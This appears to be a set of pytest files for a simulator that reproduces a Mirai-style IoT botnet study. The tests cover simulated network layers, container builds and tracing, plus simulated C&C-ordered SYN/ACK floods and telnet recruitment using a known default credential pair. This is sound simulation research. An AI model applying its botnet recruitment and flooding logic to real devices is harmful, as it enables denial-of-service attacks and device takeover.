        attack = model.attack_memory_gb(100, 100 * 6_000_000, flood_bytes=40_000_000)
        assert attack > pre

    def test_attack_memory_gap_widens_with_traffic(self):
        model = ResourceModel()
        small = model.attack_memory_gb(10, 0, 1_000_000) - model.pre_attack_memory_gb(10, 0)
        large = model.attack_memory_gb(10, 0, 50_000_000) - model.pre_attack_memory_gb(10, 0)
        assert large > small

    def test_attack_time_exceeds_simulated_duration(self):
        model = ResourceModel()
        assert model.attack_time_s(20, 100.0, 150_000) > 100.0

    def test_attack_time_monotone_in_devices_and_packets(self):
        model = ResourceModel()
        t_small = model.attack_time_s(20, 100.0, 20 * 7300)
        t_large = model.attack_time_s(130, 100.0, 130 * 7300)
        assert t_large > t_small

    def test_table1_shape_reproduced(self):
        """Model output tracks the published Table I within loose bounds."""
        model = ResourceModel()
        per_dev_container = 6 * 1024 * 1024
        paper = {20: 123, 40: 163, 70: 202, 100: 228, 130: 314}
        for n, seconds in paper.items():
            predicted = model.attack_time_s(n, 100.0, n * 7300)
            assert abs(predicted - seconds) / seconds < 0.35

    def test_report_and_mmss(self):
        model = ResourceModel()
        report = model.report(20, 120_000_000, 9_000_000, 140_000, 100.0)
        assert isinstance(report, ResourceReport)
        minutes, seconds = report.attack_time_mmss().split(":")
        assert int(minutes) >= 1
        assert len(seconds) == 2


class TestFormatTable:
    def test_alignment_and_content(self):
        rows = [
            {"a": 1, "bb": "x"},
            {"a": 100, "bb": "yyyy"},
        ]
        text = format_table(rows)
        lines = text.splitlines()
        assert len(lines) == 4
        assert "a" in lines[0] and "bb" in lines[0]
        assert "100" in lines[3]

    def test_empty_rows(self):
        assert format_table([]) == "(no rows)"

    def test_column_selection(self):
        rows = [{"x": 1, "y": 2}]
        text = format_table(rows, columns=["y"])
        assert "x" not in text.splitlines()[0]
