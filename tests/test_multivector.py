"""Tests for the extra Mirai attack vectors (SYN/ACK floods end to end)."""

import pytest

from repro.netsim.node import Node
from repro.netsim.sink import PacketSink
from tests.helpers import MiniNet
from tests.test_botnet import make_bot_host, make_cnc_host


@pytest.fixture
def botnet_with_target():
    mininet = MiniNet()
    cnc, cnc_node = make_cnc_host(mininet)
    target = Node(mininet.sim, "target")
    mininet.star.attach_host(target, 5e6)
    make_bot_host(mininet, cnc_node, name="bot0")
    mininet.sim.run(until=20.0)
    assert cnc.bot_count() == 1
    return mininet, cnc, target


class TestSynAckVectors:
    def test_syn_flood_order(self, botnet_with_target):
        mininet, cnc, target = botnet_with_target
        order = cnc.issue_attack(
            str(mininet.star.address_of(target)), 80, duration=5.0, method="syn"
        )
        assert order.method == "syn"
        mininet.sim.run(until=40.0)
        # No listener on 80: the victim answered SYNs with RSTs.
        assert target.tcp.rst_sent > 10

    def test_ack_flood_order(self, botnet_with_target):
        mininet, cnc, target = botnet_with_target
        cnc.issue_attack(
            str(mininet.star.address_of(target)), 80, duration=5.0, method="ack"
        )
        mininet.sim.run(until=40.0)
        assert target.tcp.rst_sent > 10

    def test_unknown_vector_ignored(self, botnet_with_target):
        mininet, cnc, target = botnet_with_target
        cnc.issue_attack(
            str(mininet.star.address_of(target)), 80, duration=5.0, method="teardrop"
        )
        mininet.sim.run(until=30.0)
        assert target.tcp.rst_sent == 0

    def test_console_syn_command(self, botnet_with_target):
        mininet, cnc, target = botnet_with_target
        reply = cnc.console_handler(
            f"syn {mininet.star.address_of(target)} 80 5"
        )
        assert "attack sent to 1 bots" in reply
