"""Tests for the default-credential recruitment baseline: the login
telnetd, the dictionary loader, and the end-to-end vector comparison."""

import pytest

from repro.binaries.logind import (
    DEFAULT_CREDENTIALS,
    make_login_telnetd_binary,
)
from repro.core import DDoSim, SimulationConfig
from repro.netsim.process import SimProcess
from tests.helpers import MiniNet


def make_telnet_host(mininet, name="iot", user="root", password="xc3511"):
    container, node, _link = mininet.host_container(
        name,
        rate_bps=300e3,
        files={"/usr/sbin/telnetd": (make_login_telnetd_binary().serialize(), 0o755)},
        env={"TELNET_USER": user, "TELNET_PASS": password},
    )
    container.exec_run(["/usr/sbin/telnetd"])
    return container, node


def telnet_dialogue(mininet, client_container, target, lines):
    """Drive a scripted telnet session; returns everything received."""
    transcript = []

    def client():
        sock = client_container.netns.tcp_connect(target, 23)
        yield sock.wait_connected()
        for line in lines:
            sock.send_line(line)
        while True:
            chunk = yield sock.recv()
            if chunk == b"":
                return
            transcript.append(chunk)

    SimProcess(mininet.sim, client(), name="dialogue")
    mininet.sim.run(until=30.0)
    return b"".join(transcript)


class TestLoginTelnetd:
    def test_correct_credentials_reach_shell(self):
        mininet = MiniNet()
        _container, node = make_telnet_host(mininet)
        client, _n, _ = mininet.host_container("client", rate_bps=10e6)
        transcript = telnet_dialogue(
            mininet, client, mininet.star.address_of(node),
            ["root", "xc3511", "echo pwned", "exit"],
        )
        assert b"BusyBox" in transcript
        assert b"pwned" in transcript

    def test_wrong_credentials_rejected_and_disconnected(self):
        mininet = MiniNet()
        _container, node = make_telnet_host(mininet, password="S3cure!")
        client, _n, _ = mininet.host_container("client", rate_bps=10e6)
        transcript = telnet_dialogue(
            mininet, client, mininet.star.address_of(node),
            ["root", "a", "root", "b", "root", "c"],
        )
        assert transcript.count(b"Login incorrect") == 3
        assert b"BusyBox" not in transcript

    def test_shell_commands_touch_the_filesystem(self):
        mininet = MiniNet()
        container, node = make_telnet_host(mininet)
        client, _n, _ = mininet.host_container("client", rate_bps=10e6)
        telnet_dialogue(
            mininet, client, mininet.star.address_of(node),
            ["root", "xc3511", "echo owned > /tmp/mark", "exit"],
        )
        assert container.fs.read_file("/tmp/mark") == b"owned\n"


class TestVectorEndToEnd:
    def _run(self, vector, weak_fraction, n_devs=8, seed=9):
        config = SimulationConfig(
            n_devs=n_devs, seed=seed, attack_duration=15.0,
            recruit_timeout=60.0, sim_duration=250.0,
            recruitment_vector=vector,
            weak_credential_fraction=weak_fraction,
        )
        ddosim = DDoSim(config)
        result = ddosim.run()
        return ddosim, result

    def test_credentials_vector_recruits_only_weak_devices(self):
        ddosim, result = self._run("credentials", 0.5)
        weak = ddosim.devs.weak_credential_count()
        assert 0 < weak < 8
        assert result.recruitment.bots_recruited == weak
        stats = ddosim.attacker.loader_stats
        assert stats.logins_succeeded == weak
        assert stats.hosts_with_telnet == 8

    def test_memory_error_ignores_credential_hygiene(self):
        _ddosim, result = self._run("memory_error", 0.0)
        assert result.recruitment.infection_rate == 1.0

    def test_both_vectors_reach_everything(self):
        _ddosim, result = self._run("both", 0.5)
        assert result.recruitment.bots_recruited == 8

    def test_all_weak_fleet_fully_recruited_by_credentials(self):
        ddosim, result = self._run("credentials", 1.0)
        assert ddosim.devs.weak_credential_count() == 8
        assert result.recruitment.bots_recruited == 8

    def test_all_strong_fleet_resists_credentials(self):
        ddosim, result = self._run("credentials", 0.0)
        assert result.recruitment.bots_recruited == 0
        assert ddosim.attacker.loader_stats.logins_succeeded == 0
        # But the dictionary was tried everywhere.
        assert ddosim.attacker.loader_stats.hosts_with_telnet == 8

    def test_credential_bots_attack_like_any_bot(self):
        ddosim, result = self._run("credentials", 1.0)
        assert result.attack.avg_received_kbps > 0
        assert result.attack.bots_commanded == 8

    def test_invalid_vector_rejected(self):
        with pytest.raises(ValueError):
            SimulationConfig(n_devs=2, recruitment_vector="pigeon")
        with pytest.raises(ValueError):
            SimulationConfig(n_devs=2, weak_credential_fraction=1.5)


class TestVectorComparisonRunner:
    def test_rows_and_ordering(self):
        from repro.core.experiment import run_vector_comparison

        rows = run_vector_comparison(n_devs=6, seed=2,
                                     weak_credential_fraction=0.5)
        by_vector = {row["vector"]: row for row in rows}
        assert by_vector["memory_error"]["infection_rate"] == 1.0
        assert (
            by_vector["credentials"]["recruited"]
            == by_vector["credentials"]["weak_credential_devs"]
        )
        assert (
            by_vector["credentials"]["recruited"]
            <= by_vector["memory_error"]["recruited"]
        )


class TestLoaderSession:
    """Direct tests for the loader's buffered prompt reader."""

    def _session_with_chunks(self, sim, chunks):
        from repro.botnet.loader import _Session
        from repro.netsim.process import SimFuture

        class FakeSock:
            def __init__(self):
                self.queue = list(chunks)

            def recv(self):
                future = SimFuture(sim)
                future.succeed(self.queue.pop(0) if self.queue else b"")
                return future

        return _Session(FakeSock())

    def test_finds_prompt_across_chunk_boundaries(self, sim):
        from tests.conftest import drive

        session = self._session_with_chunks(sim, [b"log", b"in: rest"])

        def worker():
            token = yield from session.read_until(b"login: ")
            return token, session.buffer

        token, leftover = drive(sim, worker())
        assert token == b"login: "
        assert leftover == b"rest"

    def test_earliest_token_wins(self, sim):
        from tests.conftest import drive

        session = self._session_with_chunks(
            sim, [b"Login incorrect ... $ "]
        )

        def worker():
            return (yield from session.read_until(b"$ ", b"Login incorrect"))

        assert drive(sim, worker()) == b"Login incorrect"

    def test_eof_returns_none_and_marks_closed(self, sim):
        from tests.conftest import drive

        session = self._session_with_chunks(sim, [b"partial"])

        def worker():
            return (yield from session.read_until(b"never-appears"))

        assert drive(sim, worker()) is None
        assert session.closed
