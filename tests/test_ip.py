"""Unit tests for the dual-stack IP layer: routing, TTL, multicast."""

import pytest

from repro.netsim.address import (
    ALL_DHCP_RELAY_AGENTS_AND_SERVERS,
    Ipv4Address,
    Ipv6Address,
)
from repro.netsim.headers import PROTO_UDP, Ipv6Header, UdpHeader
from repro.netsim.node import Node
from repro.netsim.packet import Packet, PacketTrain
from repro.netsim.topology import StarInternet


def send_udp(node, destination, payload_size=10, dst_port=9, src_port=1000):
    packet = Packet(payload_size=payload_size)
    packet.add_header(UdpHeader(src_port, dst_port))
    return node.ip.send(packet, destination, PROTO_UDP)


def capture_udp(node, port=9):
    received = []
    node.udp.bind(port, lambda packet, udp, ip: received.append((packet, udp, ip)))
    return received


class TestAddressing:
    def test_duplicate_address_rejected(self, sim, star):
        node = Node(sim, "n")
        link = star.attach_host(node, 1e6)
        with pytest.raises(ValueError):
            node.ip.add_address(link.host_device, link.ipv6)

    def test_primary_address_per_family(self, sim, star):
        node = Node(sim, "n")
        star.attach_host(node, 1e6)
        assert isinstance(node.primary_address(want_ipv6=True), Ipv6Address)
        assert isinstance(node.primary_address(want_ipv6=False), Ipv4Address)

    def test_primary_address_missing_family(self, sim):
        node = Node(sim, "lonely")
        assert node.primary_address() is None


class TestDelivery:
    def test_ipv6_end_to_end(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        received = capture_udp(node_b)
        send_udp(node_a, star.address_of(node_b))
        sim.run()
        assert len(received) == 1
        _packet, udp_header, ip_header = received[0]
        assert udp_header.dst_port == 9
        assert ip_header.src == star.address_of(node_a)

    def test_ipv4_end_to_end(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        received = capture_udp(node_b)
        send_udp(node_a, star.address_of(node_b, want_ipv6=False))
        sim.run()
        assert len(received) == 1

    def test_loopback_delivery(self, sim, two_hosts):
        node_a, _, star = two_hosts
        received = capture_udp(node_a)
        send_udp(node_a, star.address_of(node_a))
        sim.run()
        assert len(received) == 1
        # Loopback never touches the wire.
        assert node_a.devices[0].tx_packets == 0

    def test_send_without_any_address_raises(self, sim):
        node = Node(sim, "isolated")
        with pytest.raises(RuntimeError):
            send_udp(node, Ipv6Address.parse("2001:db8::99"))

    def test_send_without_route_counted(self, sim, star):
        node = Node(sim, "n")
        link = star.attach_host(node, 1e6)
        node.ip.default_device = None
        node.ip.routes.clear()
        assert not send_udp(node, Ipv6Address.parse("2001:db8::99"))
        assert node.ip.dropped_no_route == 1

    def test_router_forwards_between_hosts(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        received = capture_udp(node_b)
        send_udp(node_a, star.address_of(node_b))
        sim.run()
        assert star.router.ip.forwarded == 1

    def test_host_does_not_forward(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        # Hand node_a a packet addressed elsewhere: it must drop it.
        packet = Packet(payload_size=10)
        packet.add_header(UdpHeader(1, 2))
        from repro.netsim.headers import Ipv6Header

        packet.add_header(
            Ipv6Header(star.address_of(node_b), Ipv6Address.parse("2001:db8::dead"), PROTO_UDP)
        )
        before = node_a.ip.dropped_no_route
        node_a.ip.receive(packet, node_a.devices[0])
        assert node_a.ip.dropped_no_route == before + 1


class TestTtl:
    def test_forwarding_decrements_ttl(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        received = capture_udp(node_b)
        packet = Packet(payload_size=10)
        packet.add_header(UdpHeader(1000, 9))
        node_a.ip.send(packet, star.address_of(node_b), PROTO_UDP, ttl=5)
        sim.run()
        assert len(received) == 1
        assert received[0][2].ttl == 4

    def test_expired_ttl_dropped_at_router(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        received = capture_udp(node_b)
        packet = Packet(payload_size=10)
        packet.add_header(UdpHeader(1000, 9))
        node_a.ip.send(packet, star.address_of(node_b), PROTO_UDP, ttl=1)
        sim.run()
        assert received == []
        assert star.router.ip.dropped_ttl == 1


class TestMulticast:
    def test_join_requires_multicast_group(self, sim, two_hosts):
        node_a, _, _ = two_hosts
        with pytest.raises(ValueError):
            node_a.ip.join_multicast(Ipv6Address.parse("2001:db8::1"))

    def test_multicast_reaches_joined_members(self, sim, star):
        sender = Node(sim, "sender")
        members = [Node(sim, f"member{i}") for i in range(3)]
        star.attach_host(sender, 1e6)
        received = {}
        for member in members:
            star.attach_host(member, 1e6, dhcp6_multicast_member=True)
            member.ip.join_multicast(ALL_DHCP_RELAY_AGENTS_AND_SERVERS)
            received[member.name] = capture_udp(member, port=547)
        packet = Packet(payload_size=20)
        packet.add_header(UdpHeader(546, 547))
        sender.ip.send(packet, ALL_DHCP_RELAY_AGENTS_AND_SERVERS, PROTO_UDP)
        sim.run()
        assert all(len(inbox) == 1 for inbox in received.values())

    def test_multicast_skips_non_members(self, sim, star):
        sender = Node(sim, "sender")
        member = Node(sim, "member")
        outsider = Node(sim, "outsider")
        star.attach_host(sender, 1e6)
        star.attach_host(member, 1e6, dhcp6_multicast_member=True)
        star.attach_host(outsider, 1e6)  # not in the fan-out list
        member.ip.join_multicast(ALL_DHCP_RELAY_AGENTS_AND_SERVERS)
        member_inbox = capture_udp(member, 547)
        outsider_inbox = capture_udp(outsider, 547)
        packet = Packet(payload_size=20)
        packet.add_header(UdpHeader(546, 547))
        sender.ip.send(packet, ALL_DHCP_RELAY_AGENTS_AND_SERVERS, PROTO_UDP)
        sim.run()
        assert len(member_inbox) == 1
        assert outsider_inbox == []

    def test_sender_in_group_self_delivers(self, sim, star):
        sender = Node(sim, "sender")
        star.attach_host(sender, 1e6, dhcp6_multicast_member=True)
        sender.ip.join_multicast(ALL_DHCP_RELAY_AGENTS_AND_SERVERS)
        inbox = capture_udp(sender, 547)
        packet = Packet(payload_size=20)
        packet.add_header(UdpHeader(546, 547))
        sender.ip.send(packet, ALL_DHCP_RELAY_AGENTS_AND_SERVERS, PROTO_UDP)
        sim.run()
        assert len(inbox) == 1

    def test_leave_multicast_stops_delivery(self, sim, star):
        member = Node(sim, "member")
        sender = Node(sim, "sender")
        star.attach_host(sender, 1e6)
        star.attach_host(member, 1e6, dhcp6_multicast_member=True)
        member.ip.join_multicast(ALL_DHCP_RELAY_AGENTS_AND_SERVERS)
        member.ip.leave_multicast(ALL_DHCP_RELAY_AGENTS_AND_SERVERS)
        inbox = capture_udp(member, 547)
        packet = Packet(payload_size=20)
        packet.add_header(UdpHeader(546, 547))
        sender.ip.send(packet, ALL_DHCP_RELAY_AGENTS_AND_SERVERS, PROTO_UDP)
        sim.run()
        assert inbox == []


class TestTrainDropAccounting:
    """Drop counters must account for every packet a train carries."""

    def test_no_route_drop_counts_whole_train(self, sim, star):
        node = Node(sim, "n")
        star.attach_host(node, 1e6)
        node.ip.default_device = None
        node.ip.routes.clear()
        train = PacketTrain(payload_size=64, count=16)
        train.add_header(UdpHeader(1000, 9))
        assert not node.ip.send(train, Ipv6Address.parse("2001:db8::99"), PROTO_UDP)
        assert node.ip.dropped_no_route == 16

    def test_no_transport_drop_counts_whole_train(self, sim, star):
        node = Node(sim, "n")
        star.attach_host(node, 1e6)
        train = PacketTrain(payload_size=64, count=16)
        # Loopback self-delivery with a protocol nothing is bound to.
        node.ip.send(train, node.primary_address(want_ipv6=True), protocol=253)
        sim.run()
        assert node.ip.dropped_no_transport == 16

    def test_multicast_no_route_drop_counts_whole_train(self, sim):
        node = Node(sim, "isolated-member")
        # No devices at all: multicast send has no egress and is dropped.
        node.ip.join_multicast(ALL_DHCP_RELAY_AGENTS_AND_SERVERS)
        train = PacketTrain(payload_size=64, count=16)
        train.add_header(UdpHeader(546, 547))
        header = Ipv6Header(
            Ipv6Address.parse("fe80::1"), ALL_DHCP_RELAY_AGENTS_AND_SERVERS, PROTO_UDP
        )
        assert not node.ip._send_multicast(train, header)
        assert node.ip.dropped_no_route == 16
