"""Unit tests for Dockerfile-style image building and Buildx bakes."""

import pytest

from repro.container.build import BuildContext, BuildError, ImageBuilder, buildx_bake


@pytest.fixture
def context():
    ctx = BuildContext()
    ctx.add("daemon", b"\x7felf-bytes", mode=0o644)
    ctx.add("script", b"#!/bin/sh\necho hi\n", mode=0o755)
    return ctx


@pytest.fixture
def builder(context):
    return ImageBuilder(context)


class TestInstructions:
    def test_minimal_dockerfile(self, builder):
        image = builder.build("FROM scratch", "mini")
        assert image.reference == "mini:latest"

    def test_from_must_be_first(self, builder):
        with pytest.raises(BuildError, match="first instruction"):
            builder.build("COPY daemon /bin/daemon", "bad")

    def test_unknown_base_rejected(self, builder):
        with pytest.raises(BuildError, match="unknown base image"):
            builder.build("FROM ubuntu:latest", "bad")

    def test_base_image_sets_footprint(self, builder):
        scratch = builder.build("FROM scratch", "a")
        debian = builder.build("FROM debian:slim", "b")
        assert debian.base_rss_bytes > scratch.base_rss_bytes

    def test_copy_brings_context_artifact(self, builder):
        image = builder.build("FROM scratch\nCOPY daemon /usr/sbin/daemon", "img")
        assert image.fs.read_file("/usr/sbin/daemon") == b"\x7felf-bytes"

    def test_copy_preserves_mode_and_program(self):
        def program(ctx):
            yield None

        context = BuildContext()
        context.add("svc", b"x", mode=0o711, program=program)
        image = ImageBuilder(context).build("FROM scratch\nCOPY svc /bin/svc", "img")
        entry = image.fs.entry("/bin/svc")
        assert entry.mode == 0o711
        assert entry.program is program

    def test_copy_unknown_source_rejected(self, builder):
        with pytest.raises(BuildError, match="not in build context"):
            builder.build("FROM scratch\nCOPY nothing /x", "img")

    def test_run_chmod_plus_x(self, builder):
        image = builder.build(
            "FROM scratch\nCOPY daemon /bin/daemon\nRUN chmod +x /bin/daemon", "img"
        )
        assert image.fs.entry("/bin/daemon").executable

    def test_run_chmod_octal(self, builder):
        image = builder.build(
            "FROM scratch\nCOPY daemon /bin/daemon\nRUN chmod 600 /bin/daemon", "img"
        )
        assert image.fs.entry("/bin/daemon").mode == 0o600

    def test_run_echo_append(self, builder):
        image = builder.build(
            "FROM scratch\nRUN echo nameserver 10.0.0.1 >> /etc/resolv.conf", "img"
        )
        assert image.fs.read_file("/etc/resolv.conf") == b"nameserver 10.0.0.1\n"

    def test_run_unsupported_command(self, builder):
        with pytest.raises(BuildError, match="RUN only supports"):
            builder.build("FROM scratch\nRUN apt-get update", "img")

    def test_env(self, builder):
        image = builder.build("FROM scratch\nENV DNS_SERVER=10.0.0.1", "img")
        assert image.env["DNS_SERVER"] == "10.0.0.1"

    def test_env_without_equals_rejected(self, builder):
        with pytest.raises(BuildError):
            builder.build("FROM scratch\nENV BROKEN", "img")

    def test_expose(self, builder):
        image = builder.build("FROM scratch\nEXPOSE 53/udp\nEXPOSE 80", "img")
        assert image.exposed_ports == [53, 80]

    def test_entrypoint_exec_form(self, builder):
        image = builder.build(
            'FROM scratch\nENTRYPOINT ["/sbin/init", "--flag"]', "img"
        )
        assert image.entrypoint == ["/sbin/init", "--flag"]

    def test_entrypoint_shell_form(self, builder):
        image = builder.build("FROM scratch\nENTRYPOINT /sbin/init --x", "img")
        assert image.entrypoint == ["/sbin/init", "--x"]

    def test_comments_and_blank_lines_ignored(self, builder):
        image = builder.build(
            "# comment\n\nFROM scratch\n# another\nEXPOSE 80\n", "img"
        )
        assert image.exposed_ports == [80]

    def test_unknown_instruction_rejected(self, builder):
        with pytest.raises(BuildError, match="unsupported instruction"):
            builder.build("FROM scratch\nVOLUME /data", "img")

    def test_error_reports_line_number(self, builder):
        with pytest.raises(BuildError, match="line 3"):
            builder.build("FROM scratch\nEXPOSE 80\nCOPY nope /x", "img")


class TestBuildx:
    def test_bake_builds_per_arch(self, builder):
        images = buildx_bake(
            builder, "FROM scratch\nCOPY daemon /d", "multi",
            architectures=("x86_64", "arm64", "mips"),
        )
        assert set(images) == {"x86_64", "arm64", "mips"}
        assert images["arm64"].reference == "multi:latest-arm64"
        assert images["arm64"].architecture == "arm64"

    def test_bake_unknown_arch_rejected(self, builder):
        with pytest.raises(BuildError):
            buildx_bake(builder, "FROM scratch", "multi", architectures=("sparc",))
