"""Tests for causal span tracking (repro.obs.spans): deterministic IDs,
parent/child links, packet attribution, and the end-to-end guarantee
that the reconstructed attack tree is byte-identical run-to-run and
across --jobs."""

import json

import pytest

from repro.core import DDoSim, SimulationConfig
from repro.obs import Observatory
from repro.obs.spans import NULL_SPANS, SpanTracker, canonical_spans_run
from repro.parallel import run_map


def spans_config(**overrides):
    base = dict(
        n_devs=2,
        seed=1,
        attack_duration=10.0,
        recruit_timeout=30.0,
        sim_duration=120.0,
        # All-unprotected fleets recruit deterministically, so the tree
        # always contains the full exploit -> recruit -> attack chain.
        protection_profiles=((),),
    )
    base.update(overrides)
    return SimulationConfig(**base)


class TestSpanIds:
    def test_ids_are_deterministic_functions_of_position(self):
        first, second = SpanTracker(seed=3), SpanTracker(seed=3)
        a = first.start("exploit", 1.0, entity="dev0")
        b = second.start("exploit", 1.0, entity="dev0")
        assert a.span_id == b.span_id

    def test_different_seed_changes_root_namespace(self):
        a = SpanTracker(seed=1).start("exploit", 1.0, entity="dev0")
        b = SpanTracker(seed=2).start("exploit", 1.0, entity="dev0")
        assert a.span_id != b.span_id

    def test_repeated_same_position_gets_fresh_index(self):
        tracker = SpanTracker(seed=0)
        a = tracker.start("probe", 1.0, entity="dev0")
        b = tracker.start("probe", 2.0, entity="dev0")
        assert a.span_id != b.span_id

    def test_reseed_resets_counters_and_state(self):
        tracker = SpanTracker(seed=5)
        first = tracker.start("probe", 1.0, entity="dev0")
        tracker.bind(("k",), first)
        tracker.reseed(5)
        assert len(tracker) == 0
        assert tracker.lookup(("k",)) is None
        again = tracker.start("probe", 1.0, entity="dev0")
        assert again.span_id == first.span_id


class TestLifecycle:
    def test_parent_links_and_tree_nesting(self):
        tracker = SpanTracker(seed=0)
        parent = tracker.start("exploit", 1.0, entity="a")
        child = tracker.start("cnc.recruit", 2.0, entity="a", parent=parent)
        assert child.parent_id == parent.span_id
        tree = tracker.tree()
        assert [node["kind"] for node in tree] == ["exploit"]
        assert tree[0]["children"][0]["kind"] == "cnc.recruit"

    def test_end_records_status_and_fields(self):
        tracker = SpanTracker(seed=0)
        span = tracker.start("exploit", 1.0, entity="a")
        tracker.end(span, 3.5, status="sent", vector="dns")
        assert span.t_end == 3.5
        assert span.status == "sent"
        assert span.duration == pytest.approx(2.5)
        assert span.to_dict()["vector"] == "dns"

    def test_bind_and_lookup_cross_layer_keys(self):
        tracker = SpanTracker(seed=0)
        span = tracker.start("exploit", 1.0, entity="a")
        tracker.bind(("exploit", "2001:db8::1"), span)
        assert tracker.lookup(("exploit", "2001:db8::1")) is span
        assert tracker.lookup(("exploit", "unknown")) is None

    def test_drop_and_deliver_attribute_to_span(self):
        tracker = SpanTracker(seed=0)
        span = tracker.start("attack.train", 1.0, entity="a")
        tracker.drop(span.span_id, 3)
        tracker.deliver(span.span_id, 2, nbytes=1024)
        record = span.to_dict()
        assert record["packets_dropped"] == 3
        assert record["packets_delivered"] == 2
        assert record["bytes_delivered"] == 1024
        # Unknown IDs (e.g. a truncated span) are silently ignored.
        tracker.drop("ffffffffffffffff")

    def test_capacity_truncates_but_callers_keep_working(self):
        tracker = SpanTracker(seed=0, max_spans=2)
        kept = [tracker.start("x", float(i), entity=str(i)) for i in range(2)]
        extra = tracker.start("x", 9.0, entity="overflow")
        assert extra is not None
        tracker.end(extra, 10.0)  # no-op retention, no crash
        assert len(tracker) == 2
        assert tracker.truncated == 1
        assert tracker.get(kept[0].span_id) is not None
        assert tracker.get(extra.span_id) is None

    def test_ended_spans_noted_into_flight_recorder(self):
        from repro.obs.recorder import FlightRecorder

        tracker = SpanTracker(seed=0)
        tracker.recorder = FlightRecorder()
        span = tracker.start("exploit", 1.0, entity="a")
        tracker.end(span, 2.0, status="sent")
        note = tracker.recorder.recent()[-1]
        assert note["kind"] == "span"
        assert note["span"] == "exploit"
        assert note["status"] == "sent"


class TestNullSpans:
    def test_null_tracker_is_inert(self):
        assert NULL_SPANS.enabled is False
        span = NULL_SPANS.start("exploit", 1.0, entity="a")
        assert span is None
        NULL_SPANS.end(span, 2.0)
        NULL_SPANS.bind(("k",), span)
        assert NULL_SPANS.lookup(("k",)) is None
        assert NULL_SPANS.spans() == []
        assert NULL_SPANS.canonical_json() == "[]"


class TestExport:
    def test_to_dicts_ordered_and_jsonl_parses(self):
        tracker = SpanTracker(seed=0)
        late = tracker.start("b", 5.0, entity="x")
        early = tracker.start("a", 1.0, entity="y")
        tracker.end(late, 6.0)
        tracker.end(early, 2.0)
        records = tracker.to_dicts()
        assert [r["kind"] for r in records] == ["a", "b"]
        lines = tracker.to_jsonl().splitlines()
        assert [json.loads(line)["kind"] for line in lines] == ["a", "b"]


@pytest.fixture(scope="module")
def traced_run():
    ddosim = DDoSim(spans_config(), observatory=Observatory.full())
    result = ddosim.run()
    return ddosim, result


class TestEndToEndTree:
    def test_recruitment_chain_reconstructs(self, traced_run):
        ddosim, result = traced_run
        kinds = ddosim.obs.spans.kinds()
        assert kinds["cnc.recruit"] == result.recruitment.bots_recruited == 2
        for root in ddosim.obs.spans.tree():
            if root["kind"] != "exploit":
                continue
            outcome = root["children"][0]
            assert outcome["kind"] == "exploit.outcome"
            assert outcome["children"][0]["kind"] == "cnc.recruit"

    def test_attack_trains_parent_under_command(self, traced_run):
        ddosim, _result = traced_run
        command = next(root for root in ddosim.obs.spans.tree()
                       if root["kind"] == "cnc.command")
        trains = [c for c in command["children"] if c["kind"] == "attack.train"]
        assert len(trains) == 2
        assert all(t["packets_delivered"] > 0 for t in trains)
        assert all(t["bytes_delivered"] > 0 for t in trains)

    def test_span_ids_contain_no_wall_clock(self, traced_run):
        ddosim, _result = traced_run
        for span in ddosim.obs.spans.spans():
            int(span.span_id, 16)  # pure hex digest
            assert len(span.span_id) == 16


class TestDeterminism:
    def test_tree_byte_identical_across_runs_and_jobs(self):
        config = spans_config()
        serial = canonical_spans_run(config)
        again = canonical_spans_run(config)
        assert serial == again
        parallel = run_map(canonical_spans_run, [config, config], jobs=2)
        assert parallel == [serial, serial]

    def test_different_seed_differs(self):
        base = canonical_spans_run(spans_config())
        other = canonical_spans_run(spans_config(seed=2))
        assert base != other
