"""Unit tests for the UDP transport."""

import pytest


def inbox_handler(inbox):
    return lambda packet, udp_header, ip_header: inbox.append(
        (packet, udp_header, ip_header)
    )


class TestBinding:
    def test_bind_and_receive(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        inbox = []
        node_b.udp.bind(5000, inbox_handler(inbox))
        node_a.udp.send_datagram(b"ping", star.address_of(node_b), 5000, src_port=1)
        sim.run()
        assert len(inbox) == 1
        assert inbox[0][0].payload == b"ping"

    def test_double_bind_rejected(self, sim, two_hosts):
        node_a, _, _ = two_hosts
        node_a.udp.bind(53, inbox_handler([]))
        with pytest.raises(OSError):
            node_a.udp.bind(53, inbox_handler([]))

    def test_bind_zero_allocates_ephemeral(self, sim, two_hosts):
        node_a, _, _ = two_hosts
        port = node_a.udp.bind(0, inbox_handler([]))
        assert port >= 49152

    def test_unbind_frees_port(self, sim, two_hosts):
        node_a, _, _ = two_hosts
        node_a.udp.bind(53, inbox_handler([]))
        node_a.udp.unbind(53)
        node_a.udp.bind(53, inbox_handler([]))  # no error

    def test_ephemeral_ports_unique(self, sim, two_hosts):
        node_a, _, _ = two_hosts
        ports = {node_a.udp.allocate_ephemeral_port() for _ in range(50)}
        assert len(ports) == 50


class TestDispatch:
    def test_unbound_port_counts_unreachable(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        node_a.udp.send_datagram(b"x", star.address_of(node_b), 9999, src_port=1)
        sim.run()
        assert node_b.udp.rx_unreachable == 1

    def test_default_handler_catches_everything(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        inbox = []
        node_b.udp.set_default_handler(inbox_handler(inbox))
        for port in (1, 5353, 60000):
            node_a.udp.send_datagram(b"y", star.address_of(node_b), port, src_port=1)
        sim.run()
        assert len(inbox) == 3

    def test_bound_port_wins_over_default(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        bound, default = [], []
        node_b.udp.bind(53, inbox_handler(bound))
        node_b.udp.set_default_handler(inbox_handler(default))
        node_a.udp.send_datagram(b"z", star.address_of(node_b), 53, src_port=1)
        sim.run()
        assert len(bound) == 1
        assert default == []

    def test_source_port_visible_to_receiver(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        inbox = []
        node_b.udp.bind(53, inbox_handler(inbox))
        node_a.udp.send_datagram(b"q", star.address_of(node_b), 53, src_port=777)
        sim.run()
        assert inbox[0][1].src_port == 777

    def test_virtual_payload_datagram(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        inbox = []
        node_b.udp.bind(7, inbox_handler(inbox))
        node_a.udp.send_datagram(
            None, star.address_of(node_b), 7, src_port=1, payload_size=512
        )
        sim.run()
        assert inbox[0][0].payload is None
        assert inbox[0][0].payload_size == 512
